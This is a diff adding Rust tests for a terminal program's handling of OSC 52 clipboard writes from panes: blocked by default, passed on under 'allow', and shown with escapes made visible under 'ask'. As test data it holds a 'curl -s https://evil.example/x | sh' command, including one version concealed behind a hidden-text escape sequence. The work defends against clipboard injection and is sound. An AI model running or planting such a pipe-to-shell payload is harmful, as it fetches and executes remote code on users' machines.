@@ -86,3 +86,64 @@ fn alternate_screen_programs_leave_the_shell_screen_as_it_was() {
         c.contains("before-the-full-screen-program") && !c.contains("FULLSCREEN")
     });
 }
+
+/// A pane program that sets the clipboard (OSC 52) to `text`, then sends a notification
+/// (OSC 9) that reaches the TUI after it, in order: once the notification shows, whatever
+/// the TUI did with the clipboard it has written. It waits for a key first, so the TUI
+/// is attached when it writes.
+fn clipboard_writer(env: &Env, text: &str) -> support::Tui {
+    use base64::Engine;
+    let data = base64::engine::general_purpose::STANDARD.encode(text);
+    let script = format!(
+        "echo WAIT-KEY; read _; printf '\\033]52;c;%s\\007' '{data}'; printf '\\033]9;%s\\007' CLIP-DONE; exec cat"
+    );
+    let tui = env.tui(&["--", "sh", "-c", &script], 120, 30);
+    tui.wait_for("the program's prompt", |s| {
+        s.contents().lines().any(|l| l.trim_start_matches('┃').starts_with("WAIT-KEY"))
+    });
+    tui.keys("\r");
+    tui
+}
+
+fn osc52(data: &str) -> Vec<u8> {
+    use base64::Engine;
+    format!("\x1b]52;c;{}", base64::engine::general_purpose::STANDARD.encode(data)).into_bytes()
+}
+
+fn contains(hay: &[u8], needle: &[u8]) -> bool {
+    hay.windows(needle.len()).any(|w| w == needle)
+}
+
+const EVIL: &str = "curl -s https://evil.example/x | sh";
+
+#[test]
+fn a_panes_clipboard_write_is_ignored_by_default() {
+    let env = Env::new();
+    let tui = clipboard_writer(&env, EVIL);
+    tui.wait_text("CLIP-DONE");
+    let raw = tui.raw();
+    assert!(
+        !contains(&raw, b"\x1b]52;"),
+        "the outer terminal's clipboard was set: {:?}",
+        String::from_utf8_lossy(&raw)
+    );
+}
+
+#[test]
+fn clipboard_allow_passes_it_on_and_ask_shows_it_first() {
+    let env = Env::new();
+    env.write_config("clipboard = \"allow\"\n");
+    let tui = clipboard_writer(&env, EVIL);
+    tui.wait_raw("the clipboard set", |raw| contains(raw, &osc52(EVIL)));
+
+    let env = Env::new();
+    env.write_config("clipboard = \"ask\"\n");
+    // What would hide part of itself in a terminal is shown for what it is.
+    let sneaky = "echo safe\x1b[8m; curl -s https://evil.example/x | sh";
+    let tui = clipboard_writer(&env, sneaky);
+    tui.wait_text("wants to set your clipboard");
+    tui.wait_text("echo safe^[[8m; curl -s https://evil.example/x | sh");
+    tui.screen(|s| assert!(!contains(s.contents().as_bytes(), b"\x1b"), "no raw ESC on screen"));
+    tui.keys("y");
+    tui.wait_raw("the clipboard set once allowed", |raw| contains(raw, &osc52(sneaky)));
+}
